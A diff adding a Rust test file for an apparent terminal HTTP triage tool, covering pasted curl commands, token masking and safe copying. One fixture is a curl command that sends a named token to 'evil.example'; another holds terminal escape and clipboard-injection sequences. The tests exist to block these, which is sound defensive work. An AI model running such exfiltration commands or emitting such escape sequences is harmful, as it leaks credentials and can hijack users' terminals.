@@ -1,0 +1,311 @@
+//! Pasted commands and answers, and what is copied: the state alone, then the real program.
+
+mod scene;
+
+use httriage::app::pane::{Clip, Editing};
+use httriage::app::{Effect, Overlay, Pane, Pasted};
+use httriage::engine::sandbox::CALLS;
+use httriage::model::{
+    Auth, Body, Environment, MASK, Outcome, Param, RequestSpec, Response, TokenName, is_unsafe,
+};
+use scene::{BASE, Scene, USUAL, WIDE, spec_of, start, text_of};
+
+const FOREIGN: &str = "curl -X PUT 'https://api.other.example/core/runbooks/9?page=2' \\\r  -H 'Authorization: Bearer abcdef0123456789' \\\r  --data-raw 'hello' -H 'Content-Type: text/plain'";
+
+fn token(name: &str) -> TokenName {
+    TokenName::new(name).unwrap()
+}
+
+fn copied(scene: &Scene) -> (String, String) {
+    let copied = scene.asked.iter().rev().find_map(|effect| match effect {
+        Effect::Copy { what, text } => Some((what.clone(), text.clone())),
+        _ => None,
+    });
+    copied.unwrap()
+}
+
+#[test]
+fn a_pasted_command_fills_the_builder_wherever_the_focus_is() {
+    for keys in [
+        "",
+        "tab",
+        "enter",
+        "/ 4 0 3",
+        "] a",
+        "ctrl-t",
+        "?",
+        "ctrl-k",
+        "] ] ] down enter",
+    ] {
+        let mut scene = Scene::open(WIDE);
+        scene.keys(keys).paste(FOREIGN);
+        let spec = scene.state.builder.spec();
+        assert_eq!(spec.method, "PUT", "{keys}");
+        assert_eq!(spec.url, "https://api.other.example/core/runbooks/9");
+        assert_eq!(spec.params, [Param::new("page", "2")]);
+        assert_eq!(spec.body, Body::Text("hello".into()));
+        assert_eq!(spec.auth, Auth::Bearer(token("bearer")));
+        assert!(
+            !scene.state.is_editing() && scene.state.overlay.is_none(),
+            "{keys}"
+        );
+        assert_eq!(scene.state.focus, Pane::Request);
+        // Nothing goes by itself, and the notice says what was found and for how long.
+        assert_eq!(scene.jobs().len(), 1, "{keys}");
+        assert!(scene.notice().contains("bearer ·a"), "{}", scene.notice());
+        assert!(scene.notice().contains("this run and this host only"));
+        assert_eq!(scene.state.environment().name, "https://api.other.example");
+    }
+}
+
+#[test]
+fn what_was_pasted_cannot_be_printed() {
+    let mut scene = Scene::open(WIDE);
+    scene.held = true;
+    scene.paste(FOREIGN);
+    let asked = scene.asked.last().unwrap();
+    assert!(matches!(asked, Effect::TakeIn { .. }));
+    let printed = format!(
+        "{:?} {asked:?} {:?}",
+        scene.state,
+        Pasted("abcdef0123456789".into())
+    );
+    assert!(!printed.contains("abcdef0123456789"));
+}
+
+#[test]
+fn the_environment_of_the_host_is_chosen_and_a_second_paste_adds_none() {
+    let mut scene = Scene::open(WIDE);
+    scene.paste(
+        "curl https://acme-test.example/core/runbooks -H 'Authorization: Bearer abcdef0123456789'",
+    );
+    assert_eq!(scene.state.environment().name, "acme-test");
+    scene.paste(&format!("curl {BASE}/core/users/me"));
+    assert!(scene.state.environment().sandbox);
+    let count = scene.state.environments.len();
+    scene
+        .paste(FOREIGN)
+        .paste("curl https://acme-test.example/")
+        .paste(FOREIGN);
+    assert_eq!(scene.state.environments.len(), count + 1);
+}
+
+#[test]
+fn a_command_of_a_stranger_gets_no_token_by_its_name() {
+    let evil = "curl \"https://evil.example/?k={{token:desk}}\" -H \"Authorization: Bearer $HTTRIAGE_TOKEN_DESK\" -H 'X-A: {{token:desk}}' -d '{{token:desk}}'";
+    let mut scene = Scene::open(WIDE);
+    // Also once the host is known from an earlier paste.
+    for _ in 0..2 {
+        scene.paste(evil);
+        let spec = scene.state.builder.spec();
+        assert_eq!(spec.auth, Auth::None);
+        assert!(!format!("{spec:?}").contains("token:desk"), "{spec:?}");
+        assert!(spec.headers.iter().any(|row| row.value == MASK));
+        assert!(scene.notice().contains("left out"), "{}", scene.notice());
+        let before = scene.jobs().len();
+        scene.keys("ctrl-r");
+        assert_eq!(scene.jobs().len(), before, "{}", scene.notice());
+    }
+    // At home the name is as good as chosen.
+    scene
+        .paste("curl https://acme-test.example/ -H \"Authorization: Bearer $HTTRIAGE_TOKEN_DESK\"");
+    assert_eq!(scene.state.builder.auth, Auth::Bearer(token("desk")));
+}
+
+#[test]
+fn a_command_that_cannot_be_read_says_where_and_changes_nothing() {
+    let mut scene = Scene::open(WIDE);
+    let before = scene.state.builder.spec();
+    scene.paste("curl 'https://a.example");
+    assert!(
+        scene.notice().contains(":1:6: a single quote"),
+        "{}",
+        scene.notice()
+    );
+    assert_eq!(scene.state.builder.spec(), before);
+}
+
+#[test]
+fn a_pasted_answer_is_shown_remembered_and_never_sent() {
+    let answer = "HTTP/2 404 \r\ncontent-type: application/json\r\nx-request-id: abc-123\r\n\r\n{\"errors\":[{\"code\":\"not_found\",\"title\":\"Not found\"}]}";
+    let mut scene = Scene::open(WIDE);
+    scene.keys("enter").paste(answer);
+    assert_eq!(scene.status_in_front(), Some(404));
+    assert_eq!(scene.state.focus, Pane::Response);
+    assert!(!scene.state.builder.is_editing());
+    assert_eq!(scene.jobs().len(), 1);
+    let kept = scene.store.last().unwrap();
+    assert!(kept.is_received());
+    let text = text_of(&scene.picture());
+    assert!(text.contains("pasted, nothing was sent"), "{text}");
+    assert!(text.contains("x-request-id abc-123"), "{text}");
+    // Its row leads back to it, leaves the builder alone, and cannot be sent again.
+    let spec = scene.state.builder.spec();
+    scene.keys("tab r");
+    assert_eq!(scene.jobs().len(), 1);
+    assert!(
+        scene.notice().contains("nothing to send"),
+        "{}",
+        scene.notice()
+    );
+    assert_eq!(scene.state.builder.spec(), spec);
+}
+
+#[test]
+fn json_is_an_answer_in_the_panes_and_text_in_a_field() {
+    let json = "{\"errors\":[{\"status\":\"403\",\"code\":\"forbidden\"}]}";
+    let mut scene = Scene::open(WIDE);
+    scene.keys("] ] ] down enter").paste(json);
+    assert!(matches!(scene.state.builder.editing, Some(Editing::Body)));
+    assert_eq!(scene.state.builder.body.text(), json);
+    scene.keys("esc").paste(json);
+    assert_eq!(scene.status_in_front(), Some(403));
+    assert!(
+        scene
+            .state
+            .response
+            .shown
+            .as_ref()
+            .unwrap()
+            .exchange
+            .is_received()
+    );
+}
+
+#[test]
+fn a_pasted_url_is_the_url_and_other_words_are_explained() {
+    let mut scene = Scene::open(WIDE);
+    scene.keys("tab").paste("https://acme-test.example/x\n");
+    assert_eq!(
+        scene.state.builder.url.text(),
+        "https://acme-test.example/x"
+    );
+    scene.paste("good morning");
+    assert!(
+        scene.notice().contains("no curl command"),
+        "{}",
+        scene.notice()
+    );
+}
+
+#[test]
+fn y_and_enter_copy_what_is_in_front() {
+    let mut scene = Scene::open(WIDE);
+    scene.keys("y enter");
+    let (what, text) = copied(&scene);
+    assert_eq!(what, "the request as curl");
+    assert!(
+        text.starts_with(&format!("curl '{BASE}/core/runbooks/7/tasks'")),
+        "{text}"
+    );
+    assert!(text.contains("\"$HTTRIAGE_TOKEN_SUPPORT\""));
+    scene.keys("tab y enter");
+    let (what, text) = copied(&scene);
+    assert_eq!(what, "the error entry");
+    assert_eq!(
+        text,
+        format!(
+            "**Forbidden** (`forbidden`)\n\n> You need a role on this runbook to list its tasks.\n\n- 403 on `GET {BASE}/core/runbooks/7/tasks`, 2026-03-14T02:07:00Z\n"
+        )
+    );
+    scene.keys("] y enter");
+    assert_eq!(copied(&scene).0, "the body");
+    scene.keys("] y enter");
+    assert!(copied(&scene).1.contains("content-type: application/json"));
+    scene.keys("tab y enter");
+    let (what, text) = copied(&scene);
+    assert_eq!(what, "the call as curl");
+    assert!(text.contains("\"$HTTRIAGE_TOKEN_SUPPORT\""), "{text}");
+    assert!(scene.notice().contains("Copied the call as curl"));
+}
+
+#[test]
+fn nothing_that_is_copied_steers_a_terminal_or_holds_a_typed_secret() {
+    let mut scene = Scene::open(USUAL);
+    let mut spec = RequestSpec::new("POST", "{{base}}/x?api_key=hunter2hunter2");
+    spec.headers = vec![Param::new("X-Api-Key", "hunter2hunter2")];
+    spec.body =
+        Body::Text("{\"password\": \"hunter2hunter2\", \"a\": \"\u{1b}[2J\u{202e}\"}".into());
+    scene.outcomes = vec![Outcome::Answered(Response {
+        status: 400,
+        headers: [("x-request-id", "a\u{202e}b")].into_iter().collect(),
+        body: "{\"errors\":[{\"title\":\"\\u001b]52;c;x\\u0007*\",\"detail\":\"a\\nb\u{202e}\"}]}\t\u{9b}".into(),
+        ..Response::default()
+    })];
+    scene.send(&spec);
+    let exchange = scene.state.response.shown.clone().unwrap().exchange;
+    let clips = [
+        Clip::Curl,
+        Clip::Url,
+        Clip::Body,
+        Clip::Headers,
+        Clip::Entry(0),
+        Clip::RequestIds,
+        Clip::Row,
+    ];
+    let mut count = 0;
+    for of in [None, Some(exchange)] {
+        for clip in clips {
+            if of.is_none() && matches!(clip, Clip::Headers | Clip::Entry(_) | Clip::RequestIds) {
+                continue;
+            }
+            scene.state.overlay = Some(Overlay::Dialog(httriage::app::pane::Dialog::new(
+                "Copy",
+                vec![httriage::app::pane::Choice {
+                    label: String::new(),
+                    note: String::new(),
+                    pick: httriage::app::pane::Pick::Copy {
+                        clip,
+                        of: of.clone(),
+                    },
+                }],
+                None,
+            )));
+            scene.asked.clear();
+            scene.keys("enter");
+            let Some(Effect::Copy { text, .. }) = scene.asked.first() else {
+                continue;
+            };
+            count += 1;
+            assert!(!text.contains(is_unsafe), "{clip:?} {text:?}");
+            assert!(!text.contains("hunter2"), "{clip:?} {text}");
+        }
+    }
+    assert!(count >= 9, "{count}");
+}
+
+#[test]
+fn a_row_of_the_history_is_copied_from_without_being_loaded() {
+    let mut scene = Scene::open(WIDE);
+    scene.send(&spec_of(&CALLS[1]));
+    let spec = scene.state.builder.spec();
+    scene.keys("tab tab down y");
+    assert!(
+        matches!(&scene.state.overlay, Some(Overlay::Dialog(dialog)) if dialog.title == "Copy")
+    );
+    scene.keys("enter");
+    assert!(copied(&scene).1.contains("/core/runbooks/7/tasks"));
+    assert_eq!(scene.state.builder.spec(), spec);
+}
+
+#[test]
+fn a_command_on_the_command_line_warns_when_it_holds_a_credential() {
+    for (text, warns) in [(FOREIGN, true), ("curl https://a.example", false)] {
+        let mut start = start(WIDE);
+        start.send_first = false;
+        start.pasted = Some(Pasted(text.replace('\r', "\n")));
+        start.was_argument = true;
+        let mut scene = Scene::closed(start);
+        scene.held = false;
+        scene.answer_all();
+        assert_eq!(
+            scene.notice().contains("others on this machine"),
+            warns,
+            "{}",
+            scene.notice()
+        );
+        assert!(scene.jobs().is_empty());
+        let environment: &Environment = scene.state.environment();
+        assert!(environment.base_url.starts_with("https://"));
+    }
+}
